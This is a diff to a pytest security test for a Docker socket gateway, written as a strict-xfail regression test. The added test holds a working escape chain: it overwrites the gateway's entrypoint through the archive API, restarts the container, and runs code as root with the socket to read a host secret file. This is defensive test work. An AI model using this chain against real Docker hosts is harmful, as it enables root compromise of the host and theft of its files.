@@ -9,8 +9,11 @@ should hold: it fails while the hole is open and XPASSes once it is closed.
 
 from __future__ import annotations
 
+import contextlib
 import dataclasses
+import io
 import pathlib
+import tarfile
 import time
 import uuid
 from collections.abc import Iterator
@@ -144,5 +147,90 @@ def test_exec_into_the_gateways_own_container_is_not_root_with_the_socket(
             daemon.docker("wait", escaped, check=False, timeout=20)
             leaked = logs(caller, escaped)
         assert host_secret.read_text() not in leaked, f"exec as root: {as_root == 0}"
+    finally:
+        daemon.docker("rm", "-f", gateway, escaped, check=False)
+
+
+# What the caller puts in place of /opt/dockgate/entrypoint.py: run as root at the container's
+# next start (the entrypoint is what drops privileges), it uses the socket as ESCAPE does.
+PLANTED_ENTRYPOINT = (
+    "import sys\nsys.argv = ['x', sys.argv[1], sys.argv[2], sys.argv[3]]\n"
+    + ESCAPE
+    + "import time\ntime.sleep(300)\n"
+)
+
+
+def _entrypoint_tar(escaped: str, image: str, secret: pathlib.Path) -> bytes:
+    source = PLANTED_ENTRYPOINT.replace(
+        "sys.argv[1], sys.argv[2], sys.argv[3]", f"{escaped!r}, {image!r}, {str(secret)!r}", 1
+    ).encode()
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as tar:
+        info = tarfile.TarInfo("entrypoint.py")
+        info.size, info.mode = len(source), 0o644
+        tar.addfile(info, io.BytesIO(source))
+    return buffer.getvalue()
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="image: its root file system is writable unless the runner adds --read-only (the"
+    " README's compose snippets do not): docker cp over entrypoint.py + restart runs the caller's"
+    " code as root with the socket, without exec",
+)
+def test_cp_into_the_gateways_own_container_does_not_replace_its_entrypoint(
+    daemon: PrivateDaemon,
+    dockgate_image: str,
+    busybox_image: str,
+    host_secret: pathlib.Path,
+    tmp_path: pathlib.Path,
+) -> None:
+    """The README says the image "runs as uid 65532 with a read-only root", but read-only is a
+    run option: its nginx migration and drop-in compose snippets run it without `read_only`.
+    Here the gateway runs so, with quickstart.yaml less `exec` (a caller who may not exec).
+    The caller `docker cp`s a file over /opt/dockgate/entrypoint.py (PutContainerArchive: the
+    daemon writes as root) and restarts the container (ContainerRestart); the entrypoint runs as
+    root before it drops privileges, so the caller's code talks to the socket: a container
+    binding `/` reads the host file. What should hold: the image's files cannot be replaced
+    through the API (a read-only root by default, or files the daemon's copy cannot write)."""
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(
+        QUICKSTART.read_text().replace("            - exec         # docker exec (-it)\n", "")
+    )
+    assert "- exec" not in policy.read_text()
+    gateway, escaped = f"atk13b-gw2-{RUN}", f"atk13b-img2-escaped-{RUN}"
+    port = free_tcp_port()
+    daemon.docker(
+        "run", "-d", "--name", gateway, "--network", "host",
+        "-v", f"{daemon.socket_path}:/var/run/docker.sock",
+        "-v", f"{policy}:/etc/dockgate/policy.yaml:ro",
+        "-e", "DOCKGATE_POLICY=/etc/dockgate/policy.yaml",
+        "-e", f"DOCKGATE_LISTEN=tcp://127.0.0.1:{port}",
+        "-e", f"DOCKGATE_ADMIN_LISTEN=tcp://127.0.0.1:{free_tcp_port()}",
+        dockgate_image,
+    )  # fmt: skip
+    try:
+        assert _ready(port), daemon.docker("logs", gateway, check=False).stderr
+        caller = Api(_Listening(port))  # type: ignore[arg-type]
+        refused, _ = caller.call("POST", f"/v1.41/containers/{gateway}/exec", {"Cmd": ["id"]})
+        assert refused == 403  # no exec for this caller
+        status, _ = caller.call(
+            "PUT",
+            f"/v1.41/containers/{gateway}/archive?path=/opt/dockgate",
+            _entrypoint_tar(escaped, busybox_image, host_secret),
+            headers={"Content-Type": "application/x-tar"},
+        )
+        leaked = ""
+        if status == 200:
+            with contextlib.suppress(OSError):  # the gateway answering is the one restarting
+                caller.call("POST", f"/v1.41/containers/{gateway}/restart?t=1")
+            deadline = time.monotonic() + 30
+            while time.monotonic() < deadline:
+                if daemon.docker("inspect", escaped, check=False).returncode == 0:
+                    daemon.docker("wait", escaped, check=False, timeout=20)
+                    leaked = daemon.docker("logs", escaped).stdout.decode()
+                    break
+                time.sleep(0.5)
+        assert host_secret.read_text() not in leaked
     finally:
         daemon.docker("rm", "-f", gateway, escaped, check=False)
